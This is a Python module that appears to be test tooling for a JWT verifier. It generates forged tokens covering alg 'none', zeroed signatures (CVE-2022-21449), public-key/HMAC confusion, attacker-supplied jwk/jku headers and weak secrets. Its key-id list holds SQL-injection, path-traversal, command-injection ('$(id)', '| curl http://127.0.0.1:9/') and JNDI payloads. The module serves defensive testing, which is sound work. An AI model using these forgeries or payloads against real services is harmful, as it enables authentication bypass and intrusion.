"""Forging tools: tokens that no honest library would make, and the attacks everybody tries.

Written without PyJWT, so that a test never asks the library about itself.
"""

import base64
import hashlib
import hmac
import itertools
import json
from collections.abc import Callable, Iterator, Mapping
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa, utils

PrivateKey = ec.EllipticCurvePrivateKey | ed25519.Ed25519PrivateKey | rsa.RSAPrivateKey | bytes
Attack = tuple[str, str]  # its name, and the token


def segment(value: Mapping[str, Any] | str | bytes) -> str:
    """One part of a token, from JSON members, JSON text or octets."""
    if isinstance(value, Mapping):
        value = json.dumps(value)
    octets = value if isinstance(value, bytes) else value.encode("utf-8", "surrogatepass")
    return base64.urlsafe_b64encode(octets).rstrip(b"=").decode()


def octets_of(text: str) -> bytes:
    """What a segment stands for."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def read(token: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """Header and claims, unverified."""
    header, payload, _ = token.split(".")
    return json.loads(octets_of(header)), json.loads(octets_of(payload))


def signature(message: str, key: PrivateKey) -> bytes:
    """By the one algorithm that fits the key; octets are an HS256 secret."""
    data = message.encode()
    if isinstance(key, bytes):
        return hmac.digest(key, data, hashlib.sha256)
    if isinstance(key, ed25519.Ed25519PrivateKey):
        return key.sign(data)
    if isinstance(key, rsa.RSAPrivateKey):
        return key.sign(data, padding.PKCS1v15(), hashes.SHA256())
    r, s = utils.decode_dss_signature(key.sign(data, ec.ECDSA(hashes.SHA256())))
    return r.to_bytes(32) + s.to_bytes(32)


def forge(
    header: Mapping[str, Any] | str | bytes,
    payload: Mapping[str, Any] | str | bytes,
    key: PrivateKey,
) -> str:
    """A token with exactly this header and payload, correctly signed with `key`."""
    message = f"{segment(header)}.{segment(payload)}"
    return f"{message}.{segment(signature(message, key))}"


def public_key_encodings(jwk: Mapping[str, str]) -> dict[str, bytes]:
    """Every form of a public key that a library was ever made to take for an HMAC secret."""
    key = _public_key(jwk)
    encoding, form = serialization.Encoding, serialization.PublicFormat
    pem = key.public_bytes(encoding.PEM, form.SubjectPublicKeyInfo)
    public = {name: jwk[name] for name in ("kty", "crv", "x", "y", "n", "e") if name in jwk}
    encodings = {
        "SPKI PEM": pem,
        "SPKI PEM without its last line feed": pem.rstrip(b"\n"),
        "SPKI PEM with CRLF": pem.replace(b"\n", b"\r\n"),
        "SPKI PEM in one line": pem.replace(b"\n", b""),
        "SPKI DER": key.public_bytes(encoding.DER, form.SubjectPublicKeyInfo),
        "JWK": json.dumps(public).encode(),
        "JWK with kid": json.dumps(dict(jwk)).encode(),
        "JWK, compact": json.dumps(dict(jwk), separators=(",", ":")).encode(),
        "JWKS": json.dumps({"keys": [dict(jwk)]}).encode(),
        "first coordinate or modulus": octets_of(jwk.get("x") or jwk["n"]),
        "the same, as text": (jwk.get("x") or jwk["n"]).encode(),
        "kid": jwk["kid"].encode(),
        "empty": b"",
        "NUL": b"\0",
    }
    if isinstance(key, rsa.RSAPublicKey):
        encodings["PKCS #1 PEM"] = key.public_bytes(encoding.PEM, form.PKCS1)
        encodings["PKCS #1 DER"] = key.public_bytes(encoding.DER, form.PKCS1)
    if isinstance(key, ec.EllipticCurvePublicKey):
        encodings["point"] = key.public_bytes(encoding.X962, form.UncompressedPoint)
    return encodings


def playbook(token: str, jwk: Mapping[str, str]) -> Iterator[Attack]:
    """What an attacker does who holds one good `token` and the published key it names.

    After the scan mode of jwt_tool, and the advisories in the security notes.
    """
    header, claims = read(token)
    yield from _without_signature(token, header, claims)
    yield from _broken_signatures(token)
    yield from _confused_keys(header, claims, jwk)
    yield from _keys_brought_along(header, claims)
    yield from _strange_key_ids(header, claims)
    yield from _strange_headers(header, claims, token)
    yield from _common_secrets(header, claims)
    yield from _bent_forms(token)


def _without_signature(token: str, header: Any, claims: Any) -> Iterator[Attack]:
    message, _, good = token.rpartition(".")
    for letters in itertools.product(*zip("none", "NONE", strict=True)):
        alg = "".join(letters)
        forged = f"{segment({**header, 'alg': alg})}.{segment(claims)}"
        yield f"alg {alg}", f"{forged}."
        yield f"alg {alg}, old signature", f"{forged}.{good}"
    for alg in ("", " none", "none ", "none\0", "null", "ES256 ", "es256", "hs256", "*"):
        yield f"alg {alg!r}", f"{segment({**header, 'alg': alg})}.{segment(claims)}.{good}"
    values: list[object] = [None, 0, True, [], ["ES256"], {}]
    for value in values:
        yield f"alg is {value!r}", f"{segment({**header, 'alg': value})}.{segment(claims)}.{good}"
    yield "no signature", f"{message}."
    yield "no third part", message


def _broken_signatures(token: str) -> Iterator[Attack]:
    message, _, good = token.rpartition(".")
    octets = octets_of(good)
    yield "one bit of the signature", f"{message}.{segment(bytes([octets[0] ^ 1]) + octets[1:])}"
    yield "short signature", f"{message}.{segment(octets[:-1])}"
    yield "long signature", f"{message}.{segment(octets + b'0')}"
    yield "zeros for a signature (CVE-2022-21449)", f"{message}.{segment(bytes(len(octets)))}"
    yield "null for a signature", f"{message}.{segment('null')}"
    if len(octets) == 64:
        encoded = utils.encode_dss_signature(
            int.from_bytes(octets[:32]), int.from_bytes(octets[32:])
        )
        yield "signature in DER", f"{message}.{segment(encoded)}"
    header, claims = read(token)
    changed = segment({**claims, "sub": "00000000-0000-7000-8000-00000000ffff"})
    yield "another subject", f"{segment(header)}.{changed}.{good}"


def _confused_keys(header: Any, claims: Any, jwk: Mapping[str, str]) -> Iterator[Attack]:
    for name, secret in public_key_encodings(jwk).items():
        for alg, digest in (("HS256", "sha256"), ("HS384", "sha384"), ("HS512", "sha512")):
            message = f"{segment({**header, 'alg': alg})}.{segment(claims)}"
            mac = hmac.digest(secret, message.encode(), digest)
            yield f"{alg} with the public key: {name}", f"{message}.{segment(mac)}"


def _keys_brought_along(header: Any, claims: Any) -> Iterator[Attack]:
    mallory = ec.generate_private_key(ec.SECP256R1())
    numbers = mallory.public_key().public_numbers()
    jwk = {
        "kty": "EC",
        "crv": "P-256",
        "x": segment(numbers.x.to_bytes(32)),
        "y": segment(numbers.y.to_bytes(32)),
    }
    brought: dict[str, Any] = {
        "jwk": jwk,
        "jku": "http://127.0.0.1:9/jwks.json",
        "x5u": "http://127.0.0.1:9/chain.pem",
        "x5c": ["MIIB"],
        "x5t": "AAAA",
        "x5t#S256": "AAAA",
    }
    for name, value in brought.items():
        for kid in ({}, {"kid": "mallory"}, {"kid": None}):
            own = {**header, "alg": "ES256", name: value, **kid}
            yield f"{name} of the attacker, kid {kid}", forge(own, claims, mallory)
    yield "the attacker's key", forge({**header, "alg": "ES256"}, claims, mallory)
    yield "no kid", forge({"alg": "ES256", "typ": header["typ"]}, claims, mallory)


def _strange_key_ids(header: Any, claims: Any) -> Iterator[Attack]:
    ids: list[Any] = [
        *("", "\0", "/dev/null", "../../../../../../dev/null", "..\\..\\..\\windows\\win.ini"),
        *("' OR '1'='1", "x' UNION SELECT 'key'--", "1; DROP TABLE users", "| sleep 10", "$(id)"),
        *("| curl http://127.0.0.1:9/", "http://127.0.0.1:9/", "file:///etc/passwd", "${jndi:x}"),
        *(header["kid"] + "\0", header["kid"] + " ", header["kid"].swapcase(), header["kid"][:-1]),
        *([], [header["kid"]], {}, {"$ne": ""}, None, True, 0, 1.5, "x" * 43, "é" * 43),
        "A" * 1_000_000,
    ]
    for kid in ids:
        for secret in (b"", b"\0", b"key"):
            forged = forge({**header, "alg": "HS256", "kid": kid}, claims, secret)
            yield f"kid {str(kid)[:40]!r}, secret {secret!r}", forged


def _strange_headers(header: Any, claims: Any, token: str) -> Iterator[Attack]:
    _, payload, good = token.split(".")
    members: list[dict[str, Any]] = [
        *({"crit": ["x"], "x": 1}, {"crit": []}, {"crit": ["alg"]}, {"crit": "exp"}),
        *({"b64": False}, {"b64": True}, {"b64": False, "crit": ["b64"]}),
        *({"zip": "DEF"}, {"enc": "A128GCM"}, {"cty": "JWT"}, {"epk": {}}, {"p2c": 10**9}),
        {"x": "y"},
    ]
    for more in members:
        yield f"header with {more}", f"{segment({**header, **more})}.{payload}.{good}"
    for text in (
        "null",
        "[]",
        '"x"',
        "1",
        "",
        "{",
        "{}",
        '{"alg":"ES256","alg":"none"}',
        "\ufeff{}",
    ):
        yield f"header {text}", f"{segment(text)}.{payload}.{good}"
    yield "header nested deep", f"{segment('[' * 2000 + ']' * 2000)}.{payload}.{good}"
    yield "payload nested deep", f"{segment(header)}.{segment('[' * 2000 + ']' * 2000)}.{good}"
    yield "header not UTF-8", f"{segment(bytes([0xFF, 0xFE]))}.{payload}.{good}"
    yield "JWE of five parts", ".".join([segment({"alg": "dir", "enc": "A128GCM"}), *["AAAA"] * 4])


def _common_secrets(header: Any, claims: Any) -> Iterator[Attack]:
    for secret in ("secret", "password", "your-256-bit-secret", "changeme", "hexkey", "0" * 32):
        forged = forge({**header, "alg": "HS256"}, claims, secret.encode())
        yield f"HS256 with {secret!r}", forged


def _bent_forms(token: str) -> Iterator[Attack]:
    header, payload, good = token.split(".")
    swaps: dict[str, Callable[[str], str]] = {
        "padding": lambda text: text + "=",
        "padding to four": lambda text: text + "=" * (-len(text) % 4 or 4),
        "line feed": lambda text: text + "\n",
        "space before": lambda text: " " + text,
        "NUL": lambda text: text + "\0",
        "letter beyond ASCII": lambda text: text + "é",
        "full-width letter": lambda text: text + "Ａ",
        "one character more": lambda text: text + "A",
        "one character less": lambda text: text[:-1],
        "plus": lambda text: "+" + text[1:],
        "nothing": lambda _: "",
    }
    for name, bend in swaps.items():
        yield f"{name} in the header", f"{bend(header)}.{payload}.{good}"
        yield f"{name} in the payload", f"{header}.{bend(payload)}.{good}"
        yield f"{name} in the signature", f"{header}.{payload}.{bend(good)}"
    yield "four parts", f"{token}.AAAA"
    yield "a dot more", f"{token}."
    yield "a dot before", f".{token}"
    yield "doubled", token + token
    yield "with its scheme", f"Bearer {token}"
    yield (
        "JSON serialization",
        json.dumps({"protected": header, "payload": payload, "signature": good}),
    )


def _public_key(
    jwk: Mapping[str, str],
) -> ec.EllipticCurvePublicKey | ed25519.Ed25519PublicKey | rsa.RSAPublicKey:
    def number(name: str) -> int:
        return int.from_bytes(octets_of(jwk[name]))

    match jwk["kty"]:
        case "EC":
            return ec.EllipticCurvePublicNumbers(
                number("x"), number("y"), ec.SECP256R1()
            ).public_key()
        case "RSA":
            return rsa.RSAPublicNumbers(number("e"), number("n")).public_key()
        case _:
            return ed25519.Ed25519PublicKey.from_public_bytes(octets_of(jwk["x"]))
